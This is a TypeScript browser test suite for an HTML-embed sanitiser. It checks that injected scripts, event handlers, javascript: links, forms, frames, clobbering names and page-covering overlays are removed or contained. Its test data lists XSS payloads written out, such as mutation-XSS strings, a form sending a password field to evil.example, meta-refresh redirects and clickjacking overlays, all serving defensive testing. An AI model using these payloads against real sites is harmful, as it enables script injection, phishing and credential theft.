import { expect, test } from "vitest";
import { addresses } from "../addresses.ts";
import { createGate } from "../gate.ts";
import { expectAttached, expectVisible } from "./expect-locator.ts";
import { openScene, type SceneOf } from "./open-scene.ts";

/** Set other HTML, and wait until the embed shows it; `mark` precedes it. */
async function show(
  { page, set }: Pick<SceneOf<"html-embed", "plain">, "page" | "set">,
  html: string,
  mark: string,
): Promise<string> {
  await set({ html: `<i title="${mark}"></i>${html}` });
  await expectAttached(page.locator(`.p-a i[title="${mark}"]`));
  return (await page.locator(".p-a").innerHTML()).replace(`<i title="${mark}"></i>`, "");
}

/** HTML that is removed, with the remaining part. */
const taken: readonly (readonly [html: string, left: string])[] = [
  ["<p>a</p><script>window.ran = 1</script>", "<p>a</p>"],
  [
    '<p onclick="window.ran = 1">a</p><img src="data:," alt="" onerror="window.ran = 1">',
    '<p>a</p><img src="data:," alt="">',
  ],
  ["<svg><script>window.ran = 1</script><circle r='1'/></svg>", '<svg><circle r="1"></circle></svg>'],
  ['<svg onload="window.ran = 1"><animate onbegin="window.ran = 1" attributeName="x"/></svg>', "<svg></svg>"],
  [
    '<svg><use href="data:image/svg+xml,x"/><a href="javascript:window.ran=1"><text>a</text></a></svg>',
    "<svg><a><text>a</text></a></svg>",
  ],
  ['<a href="java\tscript:window.ran=1">a</a><a href="data:text/html,a">b</a>', "<a>a</a><a>b</a>"],
  [
    '<form action="https://evil.example"><p>a</p><input name="senha"><button formaction="//evil.example">b</button></form>',
    "<p>a</p>b",
  ],
  ["<p>a</p><style>body { display: none }</style><link rel=stylesheet href=//evil.example>", "<p>a</p>"],
  ['<p>a</p><meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">', "<p>a</p>"],
  ['<p>a</p><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>', "<p>a</p>"],
  [
    '<p>a</p><iframe src="http://evil.example"></iframe><iframe src="javascript:parent.ran=1"></iframe><iframe></iframe>',
    "<p>a</p>",
  ],
  ['<p>a</p><iframe src="data:text/html,<script>parent.ran=1</script>"></iframe>', "<p>a</p>"],
  ['<p>a</p><object data="x.swf"></object><embed src="x.swf">', "<p>a</p>"],
  ['<p popover id="x" data-x="1" nonce="n">a</p><dialog open>b</dialog>', '<p id="user-content-x">a</p>b'],
  [
    "um<form>dois<button>três</button></form><i>quatro</i><dialog open>cinco</dialog>",
    "um dois três <i>quatro</i> cinco",
  ],
  ["<select><option>a</option><option>b</option></select>", "a b"],
  ['<math><mtext><table><mglyph><style><img src=x onerror="window.ran=1">', ""],
  ['<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">', ""],
];

test("content that runs code, asks for input or leaves its box is removed", async () => {
  const app = await openScene("html-embed", "plain");
  const left: string[] = [];
  for (const [place, [html]] of taken.entries()) left.push(await show(app, html, `m${place}`));
  expect(left.slice(0, -2)).toEqual(taken.slice(0, -2).map(([, text]) => text));
  // Browsers may parse these two differently, but no handler remains.
  for (const text of left.slice(-2)) expect(text).not.toMatch(/onerror|<style/);
  expect(await app.page.evaluate(() => Reflect.get(window, "ran"))).toBe(undefined);
});

test("text, tables, links, pictures, styles and drawings pass", async () => {
  const app = await openScene("html-embed", "plain");
  const qr =
    '<svg viewBox="0 0 2 2" role="img" aria-label="Pix" width="40" height="40"><path d="M0 0h1v1H0z" fill="#000"></path></svg>';
  const table = '<table class="t"><tbody><tr><td colspan="2">a</td></tr></tbody></table>';
  const link = '<a href="/vendas?a=1">a</a><a href="mailto:a@b.example">b</a>';
  expect(await show(app, qr + table + link, "m")).toBe(qr + table + link);
  // A style is set in another way, which the content policy of a page allows.
  const styled = await show(
    app,
    `<p title="a style='b'" style="color: red">a</p><p class='x'style='color:blue'>b</p>`,
    "n",
  );
  expect(styled).toBe(`<p title="a style='b'" style="color: red;">a</p><p class="x" style="color: blue;">b</p>`);
  expect(await show(app, '<a href="https://b.example" target="_blank">b</a>', "o")).toBe(
    '<a href="https://b.example" target="_blank" rel="noopener noreferrer">b</a>',
  );
  expect(app.errors).toEqual([]);
});

test("frames of other sites are sandboxed, files of the app and object URLs are not", async () => {
  const app = await openScene("html-embed", "named");
  await app.page.route("https://mapa.example/**", (route) => route.fulfill({ contentType: "text/html", body: "mapa" }));
  const blob = await app.page.evaluate(() => URL.createObjectURL(new Blob(["etiqueta"], { type: "text/plain" })));
  await show(
    app,
    `<iframe src="https://mapa.example/a" title="Mapa" allow="camera" sandbox=""></iframe><iframe src="${blob}"></iframe><iframe src="/arquivo.pdf"></iframe>`,
    "m",
  );
  const frames = await app.page
    .locator(".p-a iframe")
    .evaluateAll((nodes) => nodes.map((node) => ["title", "allow", "sandbox"].map((name) => node.getAttribute(name))));
  expect(frames).toEqual([
    ["Mapa", null, expect.stringMatching(/^allow-scripts (?!.*top-navigation)/)],
    ["Etiqueta", null, null],
    ["Etiqueta", null, null],
  ]);
  await expectVisible(app.page.getByRole("group", { name: "Etiqueta" }));
  await expect
    .poll(() => app.page.frameLocator(`iframe[src="${blob}"]`).locator("body").textContent())
    .toBe("etiqueta");
});

test("nothing leaves its box", async () => {
  const app = await openScene("html-embed", "plain");
  await show(app, '<p style="position: fixed; inset: 0; z-index: 9999; background: red; margin: -500px">a</p>', "m");
  const above = await app.page.evaluate(() => document.elementFromPoint(20, 20)?.id);
  expect(above).toBe("antes");
});

test("content wider than its box scrolls, by the keyboard too", async () => {
  const app = await openScene("html-embed", "plain");
  await show(app, '<div style="width: 4000px; height: 20px">largo</div>', "n");
  await expect.poll(() => app.page.locator(".p-a").getAttribute("tabindex")).toBe("0");
  await show(app, "<p>estreito</p>", "o");
  await expect.poll(() => app.page.locator(".p-a").getAttribute("tabindex")).toBe(null);
});

const covering = [
  '<p style="position: fixed; inset: 0; z-index: 2147483647; background: red">a</p>',
  '<p style="position: absolute; inset: -2000px; z-index: 2147483647; background: red">a</p>',
  '<p style="position: sticky; top: 0; bottom: 0; width: 300vw; height: 300vh; margin: -500px; background: red">a</p>',
  '<p style="transform: scale(100); background: red">a</p>',
  '<p style="translate: 0 -100px; width: 100vw; height: 100vh; background: red">a</p>',
  '<p style="box-shadow: 0 0 0 2000px red; outline: 2000px solid red">a</p>',
  '<p style="float: left; margin: -900px; padding: 900px; background: red">a</p>',
  '<p style="filter: drop-shadow(0 -60px red) drop-shadow(0 60px red)">a</p>',
  '<svg style="overflow: visible; position: fixed; inset: 0" width="10" height="10"><rect x="-2000" y="-2000" width="4000" height="4000" fill="red"/></svg>',
  '<iframe src="https://mapa.example/" style="position: fixed; inset: 0; width: 100vw; height: 100vh"></iframe>',
  '<details open style="position: fixed; inset: 0; background: red"><summary>a</summary></details>',
  '<div class="trama-backdrop trama-modal trama-popup trama-loader" style="position: fixed; inset: 0">a</div>',
  '<p style="color: red; position: fixed !important; inset: 0 !important; contain: none !important; display: block">a</p>',
  '<a href="/x" style="position: fixed; inset: 0; opacity: 0.01">a</a>',
];

test("no layer of it covers the page, not to see nor to click", async () => {
  const app = await openScene("html-embed", "between");
  await app.page.route("https://mapa.example/**", (route) => route.fulfill({ contentType: "text/html", body: "mapa" }));
  const box = (await app.page.locator(".p-a").locator("..").boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 };
  const around = [
    { x: 0, y: 0, width: 1366, height: box.y },
    { x: 0, y: box.y, width: box.x, height: 500 },
    { x: box.x + box.width, y: box.y, width: 400, height: 500 },
    { x: box.x, y: box.y + box.height, width: box.width, height: 300 },
  ];
  const shots = () => Promise.all(around.map((clip) => app.page.screenshot({ clip })));
  await app.page.mouse.move(1300, 700);
  const before = await shots();
  for (const [place, html] of covering.entries()) {
    await show(app, html, `m${place}`);
    const after = await shots();
    expect(
      after.map((shot, index) => shot.equals(before[index] ?? shot)),
      html,
    ).toEqual([true, true, true, true]);
    await app.page.locator("#acima").click();
    await app.page.locator("#abaixo").click();
    await app.page.mouse.move(1300, 700);
    await app.page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
  }
  expect(await app.read("clicks")).toBe(2 * covering.length);
});

test("its names differ from the page's, and still refer to each other", async () => {
  const app = await openScene("html-embed", "plain");
  const names = ["root", "antes", "cookie", "body", "getElementById", "app", "trama-env", "location", "__proto__"];
  const clobbering = names.flatMap((name) => [
    `<img name="${name}" alt="">`,
    `<a id="${name}"></a><a id="${name}" name="href"></a>`,
    `<p id="${name}">a</p>`,
    `<iframe name="${name}" src="/arquivo.pdf"></iframe>`,
  ]);
  const seen = () =>
    app.page.evaluate(
      (all) =>
        all.map((name) => [
          typeof Reflect.get(window, name),
          typeof Reflect.get(document, name),
          document.getElementById(name)?.closest(".p-a") ?? null,
        ]),
      [...names, "x"],
    );
  await show(app, "", "m");
  const before = await seen();
  const left = await show(app, clobbering.join(""), "n");
  expect(left).not.toMatch(/ (?:id|name)="(?!user-content-)/);
  expect(await seen()).toEqual(before);

  const drawing =
    '<svg><defs><linearGradient id="g"></linearGradient><path id="p" d="M0 0h9"></path></defs><rect fill="url(#g)" style="stroke: url(#g)" aria-labelledby="p outro"></rect></svg>';
  expect(await show(app, `${drawing}<a href="#p">b</a><a href="#topo">c</a>`, "o")).toBe(
    '<svg><defs><linearGradient id="user-content-g"></linearGradient><path d="M0 0h9" id="user-content-p"></path></defs><rect fill="url(#user-content-g)" aria-labelledby="user-content-p outro" style="stroke: url(&quot;#user-content-g&quot;);"></rect></svg><a href="#user-content-p">b</a><a href="#topo">c</a>',
  );
  expect(app.errors).toEqual([]);
});

test("links may lead where links of the app may, by their own address", async () => {
  const app = await openScene("html-embed", "plain");
  // Markup cannot contain a null character, and the sanitiser removes zero-width spaces with the text after them.
  const rows = addresses.filter(({ address }) => !/[\0\u200b]/.test(address));
  const escaped = (text: string) => text.replace(/[&"<>\s]/gu, (sign) => `&#${sign.codePointAt(0)};`);
  const html = rows.map(({ address }) => `<a href="${escaped(address)}">a</a>`).join("");
  await show(app, html, "m");
  const shown = await app.page
    .locator(".p-a a")
    .evaluateAll((nodes) => nodes.map((node) => node.getAttribute("href") ?? undefined));
  expect(shown).toEqual(rows.map(({ link }) => link));
});

/** A script that records that it ran. */
const ran = (name: string) => `window.ran = [...(window.ran ?? []), "${name}"];`;
const inline = (name: string) => `<script>${ran(name)}</script>`;

/** An embed whose scripts run; the widget's scripts arrive when `hold` resolves. */
async function openTrusted(hold: Promise<void>) {
  const app = await openScene("html-embed", "trusted", { isFresh: true });
  await app.page.route("https://widget.example/**", async (route) => {
    await hold;
    await route.fulfill({ contentType: "text/javascript", body: ran("loaded") });
  });
  return { app, scripts: () => app.page.evaluate((): unknown => Reflect.get(window, "ran")) };
}

test("trusted scripts run one after the other", async () => {
  const { app, scripts } = await openTrusted(Promise.resolve());
  await show(app, `${inline("one")}<script src="https://widget.example/a.js"></script>${inline("two")}`, "m");
  await expect.poll(scripts).toEqual(["one", "loaded", "two"]);
});

test("trusted scripts of HTML that was replaced run no more", async () => {
  const gate = createGate();
  const { app, scripts } = await openTrusted(gate.opened);
  const asked = app.page.waitForRequest("**/late.js");
  await show(app, `<script src="https://widget.example/late.js"></script>${inline("never")}`, "m");
  await asked;
  await show(app, inline("new"), "n");
  await expect.poll(scripts).toEqual(["new"]);
  const answered = app.page.waitForResponse("**/late.js");
  gate.open();
  await answered;
  await expect.poll(scripts).toEqual(["new", "loaded"]);
  await show(app, inline("last"), "o");
  await expect.poll(scripts).toEqual(["new", "loaded", "last"]);
});
